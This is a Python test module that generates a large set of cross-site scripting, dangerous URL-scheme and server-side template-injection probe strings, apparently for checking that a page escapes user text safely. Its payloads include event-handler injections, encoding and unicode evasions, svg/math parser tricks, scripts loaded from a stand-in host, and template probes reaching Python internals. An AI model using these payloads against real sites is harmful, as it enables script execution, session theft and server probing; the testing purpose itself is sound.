"""Texts that run something where a page writes them without care: the ways in that lists of such texts know.

Whatever runs calls `ran`, which the test watches. A text is at most 100 characters, so that it fits every name.
"""

# ruff: noqa: E501, Q003 - each text stands as it is sent
from itertools import product

RUN = "ran(1)"
SUM = "9801547"
"""What a template makes of `1337*7331`, should one ever read these texts."""

_TAGS = ("img", "svg", "body", "input", "video", "details", "iframe", "object", "embed", "marquee", "a", "x-own")
_HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpageshow", "onanimationstart", "onbegin",
    "onpointerenter", "ontransitionend", "onbeforematch", "onscrollend", "onclick", "oncontentvisibilityautostatechange",
)  # fmt: skip
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}", "javascript&colon;{run}",
    "&#106;avascript:{run}", "javascript://%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>", "//elsewhere.test/x", "\\\\elsewhere.test\\x", "http://elsewhere.test/x",
    "feed:javascript:{run}", "jar:javascript:{run}", "blob:{run}", "view-source:javascript:{run}",
)  # fmt: skip
_PLACES = (
    "<a href='{to}' autofocus>x</a>", '<iframe src="{to}"></iframe>', "<form action='{to}'><button>x</form>",
    '<object data="{to}"></object>', "<img src='{to}'>", "[x]({to})", "[x](<{to}>)", "![x]({to})", "<{to}>",
    '[x]({to} "x")', "[x]: {to}\n\n[x]", "<base href='{to}'>", '<link rel=stylesheet href="{to}">',
)  # fmt: skip
_BREAKS = (
    "'", '"', "`", "\\'", '\\"', "'>", '">', "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>",
    "</template>", "</select>", "</svg>", "\u2028", "&quot;>", "&lt;", "%22%3E", "\\x22>", "\\u0022>", "+ADw-", "<!--",
)  # fmt: skip
_AFTER = (
    "<script>{run}</script>", "<img src=x onerror={run}>", " autofocus tabindex=1 onfocus={run} x=", ";{run};//",
    "<svg/onload={run}>",
)  # fmt: skip
_TEMPLATES = (
    "{{1337*7331}}", "{%if 1%}{{1337*7331}}{%endif%}", "${1337*7331}", "#{1337*7331}", "<%=1337*7331%>", "{{{1337*7331}}}",
    "{{config}}{{self.__init__.__globals__}}", "{{''.__class__.__mro__}}", "{0.__class__}", "%(name)s", "%s%n%d", "%",
    "{{constructor.constructor('ran(1)')()}}", "$(ran)", "{#x", "{% raw %}", "{{", "{%", "*{1337*7331}", "@(1337*7331)",
)  # fmt: skip
_ODD = (
    "<scr<script>ipt>ran(1)</scr</script>ipt>", "<SCRIPT SRC=//elsewhere.test/x.js></SCRIPT>", "<script>ran(1)",
    "<script type=module>import '//elsewhere.test/x'</script>", "<img src=x:x onerror=ran(1)//", "<<script>ran(1)//<",
    "<svg><script>ran(1)</script></svg>", "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran(1)'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><set attributeName=href to=javascript:ran(1)>", "<svg><foreignObject><img src=x onerror=ran(1)>",
    "<svg><style><img src=x onerror=ran(1)></style>", "<math><a xlink:href=javascript:ran(1)>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>", "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<style>@import '//elsewhere.test/x';</style>", "<style>*{background:url(//elsewhere.test/x)}</style>",
    "<p style=background:url(//elsewhere.test/x)>", "<p style='animation:x' onanimationend=ran(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>", "<meta http-equiv=refresh content='0;//elsewhere.test'>",
    "<div hx-get=/tickets hx-trigger=load hx-on::load=ran(1)>", "<div data-hx-get='//elsewhere.test' data-hx-trigger=load>",
    "<div hx-on:click='ran(1)' hx-trigger=load>", "<button hx-delete=/api/tickets/WEB-1 hx-trigger=load>x</button>",
    "<input type=image src=x onerror=ran(1)>", "<button formaction=javascript:ran(1)>x", "<isindex action=javascript:ran(1)>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'>", "<portal src=javascript:ran(1)>", "<template><script>ran(1)</script>",
    "<x onclick=ran(1) tabindex=1 autofocus>", "<img src=`x`onerror=ran(1)>", "<img/src/onerror=ran(1)>",
    "<img src=x onerror\x0c=ran(1)>", "<a href=\x01javascript:ran(1)>x", "<\u0131mg src=x onerror=ran(1)>",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e", "\u02bascript\u02ba", "\xc0\xbcscript>ran(1)</script>", "\ufffd<script>ran(1)</script>",
    "\u202e<script>ran(1)</script>", "\u2066\u202e\">tpircs<", "\u200f<img src=x onerror=ran(1)>", "\ufeff<script>ran(1)</script>",
    "e\u0301\u0301\u0301<svg onload=ran(1)>", "\U0001f469\u200d\U0001f4bb'\"><img src=x onerror=ran(1)>", "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;script&#62;ran(1)&#60;/script&#62;", "&#x3C;img src=x onerror=ran(1)&#x3E;", "&amp;lt;script>ran(1)&amp;lt;/script>",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e", "%3Cscript%3Eran(1)%3C/script%3E", "\\x3cscript\\x3eran(1)\\x3c/script\\x3e",
    "![x](x\" onerror=\"ran(1))", "![x\" onerror=\"ran(1)](x)", "[x](x\" onclick=\"ran(1))", "[x](x 'x\" onclick=\"ran(1)')",
    "[<img src=x onerror=ran(1)>](x)", "![<img src=x onerror=ran(1)>](/x)", "`<img src=x onerror=ran(1)>`",
    "    <script>ran(1)</script>", "| <script>ran(1)</script> |\n|-|\n| x |", "- [ ] <script>ran(1)</script>",
    "# <script>ran(1)</script>", "> <img src=x onerror=ran(1)>", "~~<svg onload=ran(1)>~~", "**<b onclick=ran(1)>**",
    "@<script>ran(1)</script>", "@jane\"><img src=x onerror=ran(1)>", "WEB-1\"><img src=x onerror=ran(1)>",
    "https://elsewhere.test/\"onmouseover=\"ran(1)", "<https://elsewhere.test/\"onclick=\"ran(1)>", "www.x.test/<script>ran(1)</script>",
    "mailto:x\"onclick=\"ran(1)", "<x@x.test\"onclick=\"ran(1)>", "';ran(1);'", "\");ran(1);(\"", "`;ran(1);`", "${ran(1)}",
    "</script><script>ran(1)</script>", "{\"x\":\"</script><script>ran(1)</script>\"}", "<![CDATA[<script>ran(1)</script>]]>",
    "<?xml-stylesheet href=javascript:ran(1)?>", "<!DOCTYPE x [<!ENTITY x 'ran'>]>", "constructor", "__proto__", "toString",
)  # fmt: skip


def payloads() -> list[str]:
    """Give all of them, each once."""
    made = [
        *(f"<{tag} src=x {handler}={RUN} autofocus tabindex=1 open>" for tag, handler in product(_TAGS, _HANDLERS)),
        *(place.format(to=scheme.format(run=RUN)) for place, scheme in product(_PLACES, _SCHEMES)),
        *(start + after.format(run=RUN) for start, after in product(_BREAKS, _AFTER)),
        *_TEMPLATES,
        *_ODD,
    ]
    return sorted({" ".join(each.split("\0")) for each in made})
